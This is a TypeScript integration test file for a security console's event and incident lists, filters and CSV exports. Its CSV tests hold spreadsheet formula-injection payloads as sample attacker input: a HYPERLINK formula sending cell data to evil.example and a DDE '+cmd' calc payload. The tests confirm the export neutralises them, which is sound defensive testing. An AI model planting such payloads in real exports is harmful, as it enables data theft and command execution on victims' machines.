import { afterAll, beforeAll, expect, test } from "bun:test"
import { mkdtempSync, readFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import { csvText, parseCsv } from "../../src/console/csv.ts"
import type { OrgId } from "../../src/domain/ids.ts"
import { eventListStatement } from "../../src/repos/EventsRepo.ts"
import {
  type Browser,
  launchBrowser,
  screenshot,
  seriousAccessibilityViolations,
  watchedContext,
} from "../support/browser.ts"
import { freePort, setPassword } from "../support/console.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, createUser, get, seedIncident } from "../support/fixtures.ts"
import { ingest } from "../support/ingest.ts"
import { type RunningServerProcess, shutdown, startServerProcess, testEnv } from "../support/server.ts"

/**
 * The console's lists on a real server and database: the Events filters (severity, sensor, source address or CIDR,
 * dates as UTC days or RFC 3339 times), a filter that cannot be read named on the page, the CSV exports of both lists
 * (equal to the lists, neutralised, streamed within a bounded memory), and an incident's events of one millisecond
 * in the order they arrived.
 */

const PASSWORD = "correct horse battery staple"
const ANALYST_PASSWORD = "analyst passphrase 2026"
const RUN = Date.now().toString(36)

let server: RunningServerProcess
let db: TestDatabase
let consoleUrl: string
let orgId: OrgId
let apiKey: string
let adminCookie: string
let analystCookie: string
let browser: Browser
let web: { id: string; token: string }
let mail: { id: string; token: string }

interface Seeded {
  readonly id: string
  readonly time: Date
  readonly severity: string
  readonly sensorId: string
  readonly sourceIp: string
}
const seeded: Array<Seeded> = []

const cookiesOf = (res: Response) =>
  res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .join("; ")

const signIn = async (email: string, password: string): Promise<string> => {
  const form = await fetch(`${consoleUrl}/sign-in`)
  const csrf = /name="csrf" value="([^"]+)"/.exec(await form.text())?.[1] ?? ""
  const res = await fetch(`${consoleUrl}/sign-in`, {
    method: "POST",
    redirect: "manual",
    headers: { cookie: cookiesOf(form), "content-type": "application/x-www-form-urlencoded", origin: consoleUrl },
    body: new URLSearchParams({ csrf, email, password, next: "/" }),
  })
  expect(res.status).toBe(303)
  return res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .filter((c) => c?.startsWith("__Host-session="))
    .join("; ")
}

const page = async (path: string, cookie = adminCookie) => {
  const res = await fetch(`${consoleUrl}${path}`, { headers: { cookie }, redirect: "manual" })
  return { status: res.status, headers: res.headers, text: await res.text() }
}

const eventIdsOnPage = (html: string) => [...html.matchAll(/<tr id="(evt_[A-Za-z0-9]+)"/g)].map((m) => m[1] as string)

/** The ids the list should show: newest first, ties by id, as the keyset order. */
const expected = (keep: (e: Seeded) => boolean) =>
  seeded
    .filter(keep)
    .sort((a, b) => b.time.getTime() - a.time.getTime() || (a.id < b.id ? 1 : a.id > b.id ? -1 : 0))
    .map((e) => e.id)

const csvOf = async (path: string, cookie = adminCookie) => {
  const res = await fetch(`${consoleUrl}${path}`, { headers: { cookie }, redirect: "manual" })
  return { status: res.status, headers: res.headers, rows: parseCsv(await res.text()) }
}

const sql = <A extends object>(run: (sql: SqlClient.SqlClient) => Effect.Effect<ReadonlyArray<A>, unknown>) =>
  db.run(Effect.flatMap(SqlClient.SqlClient, run) as Effect.Effect<ReadonlyArray<A>, never, SqlClient.SqlClient>)

const at = (text: string) => new Date(text)

beforeAll(async () => {
  const port = freePort()
  consoleUrl = `http://127.0.0.1:${port}`
  // The engine is told it has 128 MiB (a JavaScriptCore option Bun reads from the environment), so it collects
  // garbage as a small machine would: the server's RSS then shows what it holds, not what it has not yet collected.
  server = await startServerProcess({
    env: await testEnv({
      CONSOLE_PORT: String(port),
      APP_URL: consoleUrl,
      BUN_JSC_forceRAMSize: String(128 * 1024 * 1024),
    }),
  })
  db = testDatabase(server.env)
  const tenant = await createTenant(db, `Lists ${RUN}`)
  orgId = tenant.orgId
  apiKey = tenant.key
  web = await createSensor(db, orgId, "dmz-web-01")
  mail = await createSensor(db, orgId, "mail-02")
  const other = await createTenant(db, `Other ${RUN}`)
  const otherSensor = await createSensor(db, other.orgId, "elsewhere")

  const seed = async (
    sensorId: string,
    sourceIp: string,
    events: ReadonlyArray<{ time: Date; severity: "low" | "medium" | "high" | "critical" }>,
  ) => {
    const made = await seedIncident(db, { orgId, sensorId, sourceIp, events })
    for (const e of made.events) {
      seeded.push({ id: e.id, time: e.time, severity: e.severity, sensorId, sourceIp })
    }
  }
  await seed(web.id, "203.0.113.5", [
    { time: at("2026-11-25T23:59:59.999Z"), severity: "low" },
    { time: at("2026-11-26T00:00:00.000Z"), severity: "high" },
    { time: at("2026-11-26T12:00:00.000Z"), severity: "medium" },
  ])
  await seed(web.id, "203.0.113.77", [
    { time: at("2026-11-26T23:59:59.999Z"), severity: "critical" },
    { time: at("2026-11-27T00:00:00.000Z"), severity: "low" },
  ])
  await seed(mail.id, "198.51.100.9", [{ time: at("2026-11-26T08:00:00.000Z"), severity: "high" }])
  await seed(mail.id, "2001:db8::5", [{ time: at("2026-11-26T09:00:00.000Z"), severity: "medium" }])
  await seed(mail.id, "203.0.114.1", [{ time: at("2026-11-24T10:00:00.000Z"), severity: "high" }])
  // Another organization's event of the same source and day: never in this organization's lists or exports.
  await seedIncident(db, {
    orgId: other.orgId,
    sensorId: otherSensor.id,
    sourceIp: "203.0.113.5",
    events: [{ time: at("2026-11-26T10:00:00.000Z"), severity: "high" }],
  })

  const lead = await createUser(db, orgId, `lead-${RUN}@acme.example`, "admin")
  const reader = await createUser(db, orgId, `reader-${RUN}@acme.example`, "analyst")
  await setPassword(consoleUrl, lead.link, PASSWORD)
  await setPassword(consoleUrl, reader.link, ANALYST_PASSWORD)
  adminCookie = await signIn(`lead-${RUN}@acme.example`, PASSWORD)
  analystCookie = await signIn(`reader-${RUN}@acme.example`, ANALYST_PASSWORD)
  browser = await launchBrowser()
}, 180_000)

afterAll(async () => {
  await browser?.close()
  await shutdown(server, db)
})

const FILTER_CASES: ReadonlyArray<[string, (e: Seeded) => boolean]> = [
  ["", () => true],
  ["severity=high", (e) => e.severity === "high"],
  ["severity=medium", (e) => e.severity === "medium"],
  ["sensorId=SENSOR_MAIL", (e) => e.sensorId === mail.id],
  ["sourceIp=203.0.113.5", (e) => e.sourceIp === "203.0.113.5"],
  ["sourceIp=203.0.113.0/24", (e) => e.sourceIp.startsWith("203.0.113.")],
  ["sourceIp=2001:DB8::/32", (e) => e.sourceIp === "2001:db8::5"],
  ["sourceIp=198.51.100.9/32", (e) => e.sourceIp === "198.51.100.9"],
  // A plain date is that UTC day: from its first millisecond to its last.
  ["from=2026-11-26&to=2026-11-26", (e) => e.time >= at("2026-11-26T00:00Z") && e.time < at("2026-11-27T00:00Z")],
  ["from=2026-11-26", (e) => e.time >= at("2026-11-26T00:00Z")],
  ["to=2026-11-25", (e) => e.time < at("2026-11-26T00:00Z")],
  [
    "from=2026-11-26T08:00:00Z&to=2026-11-26T12:00:00Z",
    (e) => e.time >= at("2026-11-26T08:00Z") && e.time < at("2026-11-26T12:00Z"),
  ],
  [
    "sensorId=SENSOR_WEB&severity=low&from=2026-11-25",
    (e) => e.sensorId === web.id && e.severity === "low" && e.time >= at("2026-11-25T00:00Z"),
  ],
  [
    "sourceIp=203.0.113.0/24&from=2026-11-26&to=2026-11-26",
    (e) => e.sourceIp.startsWith("203.0.113.") && e.time >= at("2026-11-26T00:00Z") && e.time < at("2026-11-27T00:00Z"),
  ],
]

const withSensors = (q: string) => q.replace("SENSOR_MAIL", mail.id).replace("SENSOR_WEB", web.id)

/** Screenshots of the pages: docs/screenshots/ with UPDATE_SCREENSHOTS=1, else a temporary directory. */
const shots = mkdtempSync(join(tmpdir(), "dsvc-shots-"))

test("Events: each filter and combination narrows the list to exactly the matching events, and the CSV export equals it", async () => {
  for (const [q, keep] of FILTER_CASES) {
    const query = withSensors(q)
    const want = expected(keep)
    expect(want.length).toBeGreaterThan(0)
    const html = await page(`/events${query === "" ? "" : `?${query}`}`)
    expect(html.status).toBe(200)
    expect({ query, ids: eventIdsOnPage(html.text) }).toEqual({ query, ids: want })
    expect(html.text).not.toContain('role="alert"')
    // The page links its export with the same filters.
    const link = /href="(\/events\.csv[^"]*)"/.exec(html.text)?.[1]?.replaceAll("&amp;", "&")
    expect(link).toBeDefined()
    const csv = await csvOf(link as string)
    expect(csv.status).toBe(200)
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8")
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="events-\d{4}-\d{2}-\d{2}\.csv"$/)
    const [header, ...rows] = csv.rows
    expect(header?.slice(0, 2)).toEqual(["time", "id"])
    expect({ query, ids: rows.map((r) => r[1]) }).toEqual({ query, ids: want })
    for (const row of rows) {
      const e = seeded.find((s) => s.id === row[1]) as Seeded
      expect(row[0]).toBe(e.time.toISOString())
      expect(row[header?.indexOf("sourceIp") ?? -1]).toBe(e.sourceIp)
      expect(row[header?.indexOf("severity") ?? -1]).toBe(e.severity)
    }
  }
})

test("Events: the sensor select lists the organization's sensors; the list's own filters stay in the form", async () => {
  const html = (await page(`/events?sensorId=${mail.id}&severity=high&sourceIp=198.51.100.0%2F24&from=2026-11-26`)).text
  expect(html).toContain(`<option value="${web.id}">dmz-web-01</option>`)
  expect(html).toContain(`<option value="${mail.id}" selected="">mail-02</option>`)
  expect(html).not.toContain("elsewhere")
  expect(html).toContain('value="198.51.100.0/24"')
  expect(html).toContain('value="2026-11-26"')
})

test("Events: a date or source that cannot be read is named on the page with what it accepts; the other filters still apply", async () => {
  const html = await page("/events?from=26%2F11%2F2026&severity=high&to=2026-11-26")
  expect(html.status).toBe(200)
  expect(html.text).toContain('role="alert"')
  expect(html.text).toContain("“From” must be a date such as 2026-11-26")
  expect(html.text).not.toContain("No events.")
  expect(eventIdsOnPage(html.text)).toEqual(expected((e) => e.severity === "high" && e.time < at("2026-11-27T00:00Z")))
  // The form keeps what was typed, to be fixed.
  expect(html.text).toContain('value="26/11/2026"')
  expect(html.text).toContain('<option value="high" selected="">high</option>')

  const source = await page("/events?sourceIp=203.0.113.300&severity=medium")
  expect(source.text).toContain("“Source IP” must be an IPv4 address")
  expect(eventIdsOnPage(source.text)).toEqual(expected((e) => e.severity === "medium"))

  const reversed = await page("/events?from=2026-11-27&to=2026-11-25")
  expect(reversed.text).toContain("“From” must not be later than “To”.")

  // An export never drops a filter silently: it is refused, saying which value and why.
  const csv = await fetch(`${consoleUrl}/events.csv?from=yesterday`, { headers: { cookie: adminCookie } })
  expect(csv.status).toBe(400)
  expect(await csv.text()).toContain("“From” must be a date such as 2026-11-26")
})

test("Events: an incident id that cannot be read is named on the page, and the export is refused (never every event)", async () => {
  const html = await page("/events?incidentId=inc_typo&severity=high")
  expect(html.status).toBe(200)
  expect(html.text).toContain("“Incident” must be an incident id")
  expect(eventIdsOnPage(html.text)).toEqual(expected((e) => e.severity === "high"))
  const csv = await fetch(`${consoleUrl}/events.csv?incidentId=inc_typo`, { headers: { cookie: adminCookie } })
  expect(csv.status).toBe(400)
  expect(await csv.text()).toContain("“Incident” must be an incident id")
})

test("Incidents: the CSV export equals the list for its filter, for an analyst too", async () => {
  for (const q of ["", "status=open", "severity=high", "status=closed"]) {
    const html = await page(`/incidents${q === "" ? "" : `?${q}`}`, analystCookie)
    expect(html.status).toBe(200)
    const ids = [...html.text.matchAll(/<a href="\/incidents\/(inc_[A-Za-z0-9]+)"/g)].map((m) => m[1])
    const link = /href="(\/incidents\.csv[^"]*)"/.exec(html.text)?.[1]?.replaceAll("&amp;", "&")
    expect(link).toBe(`/incidents.csv${q === "" ? "" : `?${q}`}`)
    const csv = await csvOf(link as string, analystCookie)
    expect(csv.status).toBe(200)
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="incidents-/)
    const [header, ...rows] = csv.rows
    expect(header).toEqual([
      "id",
      "status",
      "severity",
      "title",
      "sensorId",
      "sensorName",
      "sourceIp",
      "eventCount",
      "eventTypes",
      "highConfidence",
      "firstSeenAt",
      "lastSeenAt",
      "resolvedAt",
      "url",
      "sourceReverseDns",
      "sourceAsn",
      "sourceAsOrganization",
      "sourceCountry",
      "sourceScope",
      "sourceNetwork",
      "baitCredentialUsed",
      "otherSensors",
      "closeReason",
      "assignee",
      "acknowledgedAt",
      "closeNote",
    ])
    expect({ q, ids: rows.map((r) => r[0]) }).toEqual({ q, ids })
  }
  const all = (await csvOf("/incidents.csv")).rows.slice(1)
  expect(all.length).toBe(5)
  expect(all.every((r) => r[1] === "open")).toBe(true)
})

test("exports need a session: without one they go to sign-in, like every page", async () => {
  for (const path of ["/events.csv", "/incidents.csv?status=open"]) {
    const res = await fetch(`${consoleUrl}${path}`, { redirect: "manual" })
    expect(res.status).toBe(303)
    expect(res.headers.get("location")).toStartWith("/sign-in?next=")
    expect(res.headers.get("content-type") ?? "").not.toContain("text/csv")
  }
})

/** The pieces a spreadsheet that splits on `;`, `,` and line breaks, reading no quotes, would make of a cell. */
const splitAnywhere = (cell: string) => cell.split(/[;,\r\n]/)
const RUNS_AS_FORMULA = /^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/

test("CSV export: attacker text that starts with =, +, -, @, tab or CR is neutralised; quotes, commas, newlines, unicode survive", async () => {
  const ip = "192.0.2.66"
  const nasty = [
    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    `plain, with "quotes"\nand a newline 🦊 ñ 中文`,
    // A cell of its own in a spreadsheet that splits on `;` or `,`, or a row of its own after a line break.
    `a;=HYPERLINK("http://evil.example/","Click")`,
    "x,@SUM(A1:A9)",
    "line one\r\n-2+3",
  ]
  const made = await seedIncident(db, {
    orgId,
    sensorId: web.id,
    sourceIp: ip,
    events: nasty.map((_, i) => ({ time: new Date(Date.UTC(2026, 10, 20, 0, 0, i)) })),
  })
  // The stored summaries as attacker-controlled text (the service's own summaries start with its words; this is
  // the worst case a cell can hold).
  for (const [i, e] of made.events.entries()) {
    await sql((s) => s`update events set summary = ${nasty[i] as string} where id = ${e.id} returning 1`)
  }
  const csv = await csvOf(`/events.csv?sourceIp=${ip}`)
  const [header, ...rows] = csv.rows
  const summary = header?.indexOf("summary") ?? -1
  expect(rows.length).toBe(nasty.length)
  const byId = new Map(rows.map((r) => [r[1], r[summary] as string]))
  for (const [i, e] of made.events.entries()) {
    const cell = byId.get(e.id) as string
    const text = nasty[i] as string
    expect(/^[=+\-@\t\r]/.test(cell)).toBe(false)
    expect(splitAnywhere(cell).filter((piece) => RUNS_AS_FORMULA.test(piece))).toEqual([])
    // The exact text once the marks are taken off (src/console/csv.ts says where they go).
    expect(csvText(cell)).toBe(text)
  }
  for (const e of made.events)
    seeded.push({ id: e.id, time: e.time, severity: e.severity, sensorId: web.id, sourceIp: ip })
})

test("CSV export of incidents: a sensor name or title that starts with =, +, -, @, tab or CR is neutralised; quotes, commas, unicode survive", async () => {
  // Sensor names as an admin may give them (printable, trimmed): a formula start is a valid name.
  const names = [
    `=HYPERLINK("http://evil.example/?"&A1,"Click") ${RUN}`,
    `+cmd|' /C calc'!A0 ${RUN}`,
    `-2+3 ${RUN}`,
    `@SUM(1,2) ${RUN}`,
    `＝1+1 ${RUN}`,
    `plain, with "quotes" 🦊 ñ 中文 ${RUN}`,
  ]
  // Titles as the worst case a cell can hold, tab and CR first too (the service writes its own titles; these go in
  // by SQL).
  const titles = ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"]
  const made: Array<{ id: string; name: string; title: string }> = []
  for (const [i, name] of names.entries()) {
    const sensor = await createSensor(db, orgId, name)
    const { incident } = await seedIncident(db, {
      orgId,
      sensorId: sensor.id,
      sourceIp: `192.0.2.${70 + i}`,
      events: [{ time: new Date(Date.UTC(2026, 10, 21, 0, 0, i)) }],
    })
    const title = titles[i] as string
    await sql((s) => s`update incidents set title = ${title} where id = ${incident.id} returning 1`)
    made.push({ id: incident.id, name, title })
  }
  const csv = await csvOf("/incidents.csv")
  expect(csv.status).toBe(200)
  const [header, ...rows] = csv.rows
  const column = (name: string) => header?.indexOf(name) ?? -1
  const byId = new Map(rows.map((r) => [r[0], r]))
  const startsFormula = (text: string) => /^(?:[\t\r]|[=+\-@\uFF1D])/.test(text)
  for (const m of made) {
    const row = byId.get(m.id) as Array<string>
    expect(row).toBeDefined()
    const cells: Array<[string, string]> = [
      [row[column("sensorName")] ?? "", m.name],
      [row[column("title")] ?? "", m.title],
    ]
    for (const [cell, text] of cells) {
      expect({ text, marked: cell.startsWith("'") }).toEqual({ text, marked: startsFormula(text) })
      expect(splitAnywhere(cell).filter((piece) => RUNS_AS_FORMULA.test(piece))).toEqual([])
      expect(csvText(cell)).toBe(text)
    }
  }
  // Every cell of the export, not only these: none starts a formula.
  for (const row of rows)
    for (const cell of row) expect(/^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(cell)).toBe(false)
})

test("the source network filter is served by an index (no sequential scan), alone and with a cursor", async () => {
  for (const after of [undefined, { time: new Date(), id: "evt_Z" }]) {
    const { text, params } = eventListStatement({
      orgId,
      filters: {},
      sourceNetwork: "203.0.113.0/24",
      after,
      fetch: 51,
    })
    const plan = await db.run(
      Effect.gen(function* () {
        const s = yield* SqlClient.SqlClient
        return yield* s.withTransaction(
          Effect.gen(function* () {
            yield* s`set local enable_seqscan = off`
            yield* s`set local enable_sort = off`
            const rows = yield* s.unsafe<Record<string, string>>(`explain ${text}`, params)
            return rows.map((r) => Object.values(r)[0]).join("\n")
          }),
        )
      }),
    )
    expect(plan).not.toMatch(/Seq Scan on events/)
    // A sort step; a Merge Append's "Sort Key" merges the month partitions' index scans in order, sorting nothing.
    expect(plan).not.toMatch(/(^|->)\s*(Incremental )?Sort {2}\(/m)
  }
})

test("Cowrie lines of one millisecond keep their arrival order on the incident page and in the API", async () => {
  const stamp = new Date(Date.now() - 60_000).toISOString()
  const sessions = Array.from({ length: 6 }, (_, k) => ({ session: `same${RUN}${k}`, ip: `198.18.0.${10 + k}` }))
  // One batch: for each session a connect, a failed and a successful login and a command, all at one timestamp.
  const lines = sessions.flatMap(({ session, ip }) =>
    [
      { eventid: "cowrie.session.connect", src_port: 40000, dst_port: 22, protocol: "ssh" },
      { eventid: "cowrie.login.failed", username: "root", password: "123456" },
      { eventid: "cowrie.login.success", username: "root", password: "toor" },
      { eventid: "cowrie.command.input", input: "uname -a" },
    ].map((fields) => ({ session, src_ip: ip, sensor: "cowrie-1", timestamp: stamp, message: "m", ...fields })),
  )
  const res = await ingest(server.ingestUrl, "cowrie", web.token, lines)
  expect(res.status).toBe(200)
  expect(res.body.accepted).toBe(lines.length)
  const incidentIds = [...new Set(res.body.results.map((r: { incidentId: string }) => r.incidentId))] as Array<string>
  expect(incidentIds.length).toBe(sessions.length)
  for (const [k, incidentId] of incidentIds.entries()) {
    // The events as sent, in the order of the request's lines.
    const sent = res.body.results.slice(k * 4, k * 4 + 4).map((r: { id: string }) => r.id)
    const api = await get(server.url, `/v1/incidents/${incidentId}`, apiKey)
    expect(api.status).toBe(200)
    const apiIds = api.body.events.map((e: { id: string }) => e.id)
    expect(apiIds).toEqual(sent)
    expect(api.body.events[0].type).toBe("ssh.session")
    const html = await page(`/incidents/${incidentId}`)
    const onPage = [...html.text.matchAll(/id="(evt_[A-Za-z0-9]+)"/g)].map((m) => m[1])
    expect(onPage.filter((id) => sent.includes(id))).toEqual(sent)
  }
})

test("pages with the new filters and the export links pass axe-core (no serious or critical violations)", async () => {
  const { context, watch } = await watchedContext(browser)
  const tab = await context.newPage()
  await tab.goto(`${consoleUrl}/sign-in`)
  await tab.fill("#email", `lead-${RUN}@acme.example`)
  await tab.fill("#password", PASSWORD)
  await Promise.all([tab.waitForNavigation(), tab.click("form[action='/sign-in'] button[type=submit]")])
  for (const path of ["/events?from=2026-11-26&to=2026-11-26&severity=high", "/events?from=bad", "/incidents"]) {
    await tab.goto(`${consoleUrl}${path}`)
    expect(await tab.locator("h1").first().textContent()).not.toBe("Sign in")
    expect({ path, violations: await seriousAccessibilityViolations(tab) }).toEqual({ path, violations: [] })
  }
  // The filter form in a real browser: a plain date typed and submitted narrows the list to that UTC day.
  await tab.goto(`${consoleUrl}/events`)
  await tab.fill("#from", "2026-11-26")
  await tab.fill("#to", "2026-11-26")
  await tab.selectOption("#sensorId", mail.id)
  await Promise.all([tab.waitForNavigation(), tab.click("form.filters button[type=submit]")])
  await screenshot(tab, "events-filters", shots)
  const ids = await tab
    .locator("tbody tr[id]")
    .evaluateAll((rows) => rows.map((r) => (r as unknown as { id: string }).id))
  expect(ids).toEqual(
    expected((e) => e.sensorId === mail.id && e.time >= at("2026-11-26T00:00Z") && e.time < at("2026-11-27T00:00Z")),
  )
  // The export link downloads the file for that filter.
  const [download] = await Promise.all([tab.waitForEvent("download"), tab.click("text=Export CSV")])
  const file = readFileSync((await download.path()) as string, "utf8")
  expect(
    parseCsv(file)
      .slice(1)
      .map((r) => r[1]),
  ).toEqual(ids)
  expect(watch.violations).toEqual([])
  expect(watch.errors).toEqual([])
  await context.close()
}, 120_000)

test("a large export streams: thousands of rows of big attacker input leave the server's memory near where it started", async () => {
  const big = await createTenant(db, `Big ${RUN}`)
  const sensor = await createSensor(db, big.orgId, "bulk")
  const made = await seedIncident(db, {
    orgId: big.orgId,
    sensorId: sensor.id,
    sourceIp: "192.0.2.200",
    events: [{ time: new Date(Date.UTC(2026, 10, 1)) }],
  })
  const ROWS = 6000
  // 6000 events of 12 KB of attacker input each (under the API's cuts: about 75 MiB of CSV), written in the database
  // at once.
  await sql(
    (s) => s`
    insert into events (id, org_id, incident_id, sensor_id, sensor_event_id, time, source_ip, source_port, service,
      port, type, action, severity, confidence, tags, summary, attacker_input, received_at)
    select 'evt_' || upper(substr(md5(g::text || ${RUN}), 1, 26)), ${big.orgId}, ${made.incident.id}, ${sensor.id},
      'bulk-' || g, timestamptz '2026-11-02' + g * interval '1 second', '192.0.2.200', 40000, 'ssh', 22,
      'ssh.command', 'command', 'high', 'normal', '{}', 'SSH command from 192.0.2.200',
      jsonb_build_object('command', repeat('=A,"' || chr(10), 100) || g, 'b', repeat('ab', 1900),
        'c', repeat('cd', 1900), 'd', repeat('ef', 1900)), now()
    from generate_series(1, ${ROWS}) g
    returning 1`,
  )
  const user = await createUser(db, big.orgId, `bulk-${RUN}@acme.example`, "analyst")
  await setPassword(consoleUrl, user.link, PASSWORD)
  const cookie = await signIn(`bulk-${RUN}@acme.example`, PASSWORD)
  const rssKiB = (pid: number) => Number(/VmRSS:\s+(\d+)\s+kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1])
  const pid = server.process.pid
  // Settle: two exports of the first 1500 rows (a quarter of the file) and a page, so the start figure is the
  // warmed-up process whose allocator already holds the pages an export's working set needs.
  for (let i = 0; i < 2; i++) {
    expect((await csvOf("/events.csv?to=2026-11-02T00%3A25%3A00Z", cookie)).rows.length).toBe(1 + 1500)
  }
  await page("/events", cookie)
  await Bun.sleep(500)
  /** One export read to its end (slowly at first), with the server's peak RSS while it ran. */
  const measuredExport = async (path: string) => {
    let peak = rssKiB(pid)
    const sampler = setInterval(() => {
      peak = Math.max(peak, rssKiB(pid))
    }, 50)
    const res = await fetch(`${consoleUrl}${path}`, { headers: { cookie } })
    expect(res.status).toBe(200)
    let bytes = 0
    let records = 0
    const reader = (res.body as ReadableStream<Uint8Array>).getReader()
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      bytes += value.length
      // CR ends a record and nothing else here (the commands hold LFs only).
      for (const b of value) if (b === 13) records++
      // A slow reader at first: the server must hold back, not buffer the rest.
      if (bytes < 8 * 1024 * 1024) await Bun.sleep(1)
    }
    clearInterval(sampler)
    return { peak: Math.max(peak, rssKiB(pid)) / 1024, mib: bytes / 1024 / 1024, records }
  }
  const before = rssKiB(pid) / 1024
  const quarter = await measuredExport("/events.csv?to=2026-11-02T00%3A25%3A00Z")
  const whole = await measuredExport("/events.csv")
  console.log(
    `exports of ${quarter.mib.toFixed(1)} and ${whole.mib.toFixed(1)} MiB; console RSS ${before.toFixed(0)} → ${quarter.peak.toFixed(0)} → ${whole.peak.toFixed(0)} MiB`,
  )
  expect(quarter.records).toBe(1 + 1500)
  // The header, the seeded event and the bulk ones: every row, none cut (the cap is far above).
  expect(whole.records).toBe(ROWS + 2)
  expect(whole.mib).toBeGreaterThan(60)
  // Memory does not follow the file's size: four times the rows take about the memory of a quarter (a few pages at
  // a time, whatever the engine has not collected yet); held whole, the difference alone would be the 50 MiB more.
  // Half of that is the bound: on a loaded machine the collector ran late enough to leave 17 MiB more once.
  expect(whole.peak - quarter.peak).toBeLessThan((whole.mib - quarter.mib) / 2)
  // And never near the file itself.
  expect(whole.peak - before).toBeLessThan(whole.mib)
}, 180_000)
